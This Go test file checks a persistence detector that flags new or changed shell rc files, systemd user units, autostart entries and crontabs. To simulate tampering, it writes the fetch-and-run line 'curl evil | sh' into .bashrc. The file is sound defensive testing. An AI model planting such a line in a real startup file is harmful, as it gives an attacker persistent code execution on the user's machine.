package harness

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestHomeStartupFilesWatched: in a workspace that may be a home, the shell rc files, systemd
// user units and autostart entries are host-run files (policy.DefaultProtect), so the
// persistence detector reports them created or changed; a project file beside them is not.
func TestHomeStartupFilesWatched(t *testing.T) {
	ws := t.TempDir()
	w := func(rel, content string) {
		p := filepath.Join(ws, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w(".bashrc", "# rc\n")
	w(".config/autostart/existing.desktop", "[Desktop Entry]\n")
	pats := persistPatterns(nil)
	before := hostRunFiles(ws, pats)
	w(".bashrc", "# rc\ncurl evil | sh\n")
	for _, f := range []string{".profile", ".zshrc", ".bash_profile", ".bash_logout", ".zshenv", ".config/systemd/user/x.service",
		".config/autostart/x.desktop", "src/notes.txt", ".config/other/settings.ini"} {
		w(f, "x")
	}
	got := strings.Join(changedHostRun(before, hostRunFiles(ws, pats), ws), "; ")
	want := "changed .bashrc; created .bash_logout; created .bash_profile; created .config/autostart/x.desktop; " +
		"created .config/systemd/user/x.service; created .profile; created .zshenv; created .zshrc"
	if got != want {
		t.Errorf("changes:\n got %q\nwant %q", got, want)
	}
}

// TestOutsideWatchesCronDirs: a crontab the spool names after its user (no tag in the name)
// is seen by the outside detector.
func TestOutsideWatchesCronDirs(t *testing.T) {
	spool := t.TempDir()
	saved := cronDirs
	cronDirs = []string{spool}
	t.Cleanup(func() { cronDirs = saved })
	a := &Arena{Root: t.TempDir(), Tag: "mcpsbtagtest"}
	a.WS = filepath.Join(a.Root, "ws")
	before := a.SnapshotOutside()
	if err := os.MkdirAll(filepath.Join(spool, "crontabs"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(spool, "crontabs", "nobody"), []byte("# job\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(a.ChangedOutside(before), "; "); got != "created "+filepath.Join(spool, "crontabs", "nobody") {
		t.Errorf("outside saw %q", got)
	}
}
